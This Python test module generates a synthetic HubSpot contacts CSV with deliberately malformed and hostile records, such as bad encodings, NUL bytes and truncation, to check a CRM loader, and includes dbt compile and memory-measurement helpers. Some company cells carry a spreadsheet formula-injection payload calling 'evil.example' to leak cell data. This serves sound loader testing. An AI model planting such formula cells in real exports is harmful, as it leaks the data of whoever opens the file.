"""Synthetic CRM exports for tests and the benchmark: a big HubSpot contacts file, optionally
hostile (RELIABILITY test 9), written in streaming fashion, with what a correct loader must find.

Hostile content, at fixed strides so any size has some of each:
- a UTF-8 BOM; names with UTF-8 accents (Søren, Zoë); every LATIN1_EVERY-th record written in
  Windows-1252 (José Müller, a Latin-1 line inside a UTF-8 file);
- quoted company names with an embedded newline (a record on two lines) and with commas;
- the same person again with the email in mixed case and padded with spaces;
- `=HYPERLINK(...)` company cells;
- bad records: no Record ID, one cell too many, a NUL byte, a byte that is no character in
  UTF-8 or Windows-1252 (0x81);
- and the last record cut in the middle, with no line break.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from pathlib import Path

HEADERS = ["Record ID", "First Name", "Last Name", "Email", "Phone Number", "Job Title", "Company Name",
           "Lifecycle Stage", "Lead Status", "Create Date", "Associated Company IDs"]
FIRST = ["Ada", "Søren", "Zoë", "Mei", "Omar", "Priya", "Lukas", "Ana", "Kwame", "Elif"]
LAST = ["Lovelace", "Dubois", "Nakamura", "Okafor", "Schmidt", "García", "Rossi", "Kim", "Novak", "Silva"]
TITLES = ["Engineer", "Senior Software Engineer", "VP, Engineering", "CTO", "Head of Platform", "Developer"]
STAGES = ["Lead", "Subscriber", "Marketing Qualified Lead", "Sales Qualified Lead", "Opportunity", "Customer"]

LATIN1_EVERY = 97
MULTILINE_EVERY = 101
FORMULA_EVERY = 503
DUPLICATE_EVERY = 10  # the record after every 10th repeats its person, email in another case
NO_ID_EVERY = 5003
EXTRA_CELL_EVERY = 7919
NUL_AT = 1234
BAD_BYTE_AT = 2345


@dataclass
class Expected:
    """What a correct loader finds in the file."""

    records: int = 0  # data records, truncated last one included
    loaded: int = 0  # rows that reach the raw table (distinct record ids)
    latin1: int = 0  # loaded rows decoded with the Windows-1252 fallback
    formulas: int = 0  # loaded rows with a formula cell
    quarantine: dict = field(default_factory=dict)  # line -> reason keyword
    emails: set = field(default_factory=set)  # normalised emails of loaded rows
    lines: int = 0  # physical lines, header included


def _email(i: int) -> str:
    return f"{FIRST[i % 10].lower().replace('ø', 'o').replace('ë', 'e')}.{i}@company{i % 997}.com"


def write_contacts(path: Path, rows: int, hostile: bool = True) -> Expected:
    """A HubSpot contacts export of `rows` data records; returns what the loader must find."""
    expected = Expected()
    line = 1
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    with path.open("wb") as out:
        if hostile:
            out.write(b"\xef\xbb\xbf")
        writer.writerow(HEADERS)
        out.write(buffer.getvalue().encode("utf-8"))
        buffer.seek(0), buffer.truncate()
        pending = []
        for i in range(1, rows + 1):
            record_id = str(100_000 + i)
            person = i - 1 if hostile and i % DUPLICATE_EVERY == 1 and i > 1 else i
            email = _email(person)
            company = f"Company {i % 997}"
            first, last = FIRST[person % 10], LAST[person % 10]
            encoding = "utf-8"
            kind = "ok"
            if hostile:
                if person != i:  # the same person again: mixed case, spaces
                    email = "  " + "".join(c.upper() if n % 2 else c for n, c in enumerate(email)) + " "
                if i % LATIN1_EVERY == 0:
                    first, last, encoding = "José", "Müller", "cp1252"
                if i % MULTILINE_EVERY == 0:
                    company = f"{company}\nLabs, Inc."
                if i % FORMULA_EVERY == 0:
                    company = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
                if i % NO_ID_EVERY == 0:
                    record_id, kind = "", "no Record ID"
                elif i % EXTRA_CELL_EVERY == 0:
                    kind = "12 fields"
            cells = [record_id, first, last, email, f"+1 415-555-{i % 10000:04d}", TITLES[i % 6], company,
                     STAGES[i % 6], "Open", f"2024-{1 + i % 12:02d}-{1 + i % 28:02d} 10:{i % 60:02d}",
                     str(5_000_000 + i % 997)]
            if kind == "12 fields":
                cells.append("surplus")
            writer.writerow(cells)
            text = buffer.getvalue()
            buffer.seek(0), buffer.truncate()
            data = text.encode(encoding)
            if hostile and i == NUL_AT:
                data, kind = data.replace(b"Open", b"Op\x00en"), "NUL"
            if hostile and i == BAD_BYTE_AT:
                data, kind = data.replace(b"Open", b"Op\x81en"), "0x81"
            last_record = i == rows
            if hostile and last_record:
                data, kind = data[: len(data) // 2], "truncated"
            pending.append(data)
            if len(pending) >= 5000:
                out.write(b"".join(pending))
                pending = []
            start = line + 1
            line += text.count("\n")
            expected.records += 1
            if kind != "ok":
                expected.quarantine[start] = kind
                continue
            expected.loaded += 1
            expected.latin1 += encoding == "cp1252"
            expected.formulas += company.startswith("=")
            expected.emails.add(email.strip().lower())
        out.write(b"".join(pending))
    expected.lines = line
    return expected


def compile_crm_models(raw_schema: str, work_dir: Path) -> dict[str, str]:
    """The CRM staging and intermediate/crm models compiled against `raw_schema` (dbt var
    crm_raw_schema), by model name, as SELECTs that reference each other by bare model name (see
    `crm_query`): a test runs them on its own raw dataset without building anything.

    Compiles a copy of the project holding only what these models use (dbt_project.yml, macros,
    seeds, models/staging/crm, models/intermediate/crm), so the rest of the project (and work in
    progress there) neither slows nor breaks it; target and logs stay in `work_dir`."""
    import json
    import os
    import re
    import shutil
    import subprocess
    import sys

    from devsignal import db, settings

    db.connection()  # exports DEVSIGNAL_PG_* for profiles.yml
    source = settings.dbt_project_dir()
    project = work_dir / "dbt_project"
    if project.exists():
        shutil.rmtree(project)
    project.mkdir(parents=True)
    for name in ("dbt_project.yml", "profiles.yml"):
        shutil.copy(source / name, project / name)
    for folder in ("macros", "seeds", "models/staging/crm", "models/intermediate/crm"):
        shutil.copytree(source / folder, project / folder)
    target = work_dir / "dbt_target"
    command = [str(Path(sys.executable).parent / "dbt"), "compile", "--project-dir", str(project),
               "--profiles-dir", str(project), "--target-path", str(target), "--log-path", str(work_dir / "dbt_logs"),
               "--vars", json.dumps({"crm_raw_schema": raw_schema}), "--select", "resource_type:model", "--quiet"]
    result = subprocess.run(command, capture_output=True, text=True, env=os.environ, cwd=project)
    if result.returncode != 0:
        raise RuntimeError(f"dbt compile failed:\n{result.stdout[-4000:]}\n{result.stderr[-2000:]}")
    compiled = target / "compiled" / "devsignal" / "models"
    models = {}
    for path in sorted(compiled.glob("*/crm/*.sql")):
        # "db"."staging"."stg_x" -> stg_x: the other models become CTEs of the query (crm_query)
        models[path.stem] = re.sub(r'"[^"]+"\."(?:staging|intermediate)"\."((?:stg|int)_crm__\w+)"', r"\1",
                                   path.read_text())
    return models


def crm_query(models: dict[str, str], sql: str) -> str:
    """`sql` over the compiled models, named by their bare names: every model it (transitively)
    reads becomes a CTE, staging before intermediate."""
    import re

    needed: list[str] = []

    def need(text: str) -> None:
        for name in re.findall(r"\b((?:stg|int)_crm__\w+)\b", text):
            if name in models and name not in needed:
                needed.append(name)
                need(models[name])

    need(sql)
    ordered = sorted(needed, key=lambda name: (not name.startswith("stg_"), name))
    ctes = ",\n".join(f"{name} as (\n{models[name]}\n)" for name in ordered)
    return f"with {ctes}\n{sql}" if ctes else sql


def peak_rss_mb() -> float:
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def measured_import(path: str, dataset: str, pipelines_dir: str) -> dict:
    """import-crm one file into `dataset` (a pipeline of its own), quietly, with peak RSS before
    (everything imported) and after, and the seconds it took."""
    import time

    from devsignal.console import console
    from ingestion.pipelines import make_pipeline

    from .imports import import_file

    console.quiet = True
    pipeline = make_pipeline("crm", pipeline_name=f"measure_{dataset}", dataset_name=dataset,
                             pipelines_dir=pipelines_dir)
    with pipeline.sql_client() as client:  # connect once, so the baseline holds the driver too
        client.execute_sql("select 1")
    base = peak_rss_mb()
    started = time.perf_counter()
    result = import_file(path, pipeline=pipeline)
    seconds = time.perf_counter() - started
    return {**result, "seconds": seconds, "base_rss_mb": base, "peak_rss_mb": peak_rss_mb()}


if __name__ == "__main__":  # python -m ingestion.sources.crm.testing FILE DATASET PIPELINES_DIR -> JSON
    import json
    import sys

    print(json.dumps(measured_import(*sys.argv[1:4]), default=str))
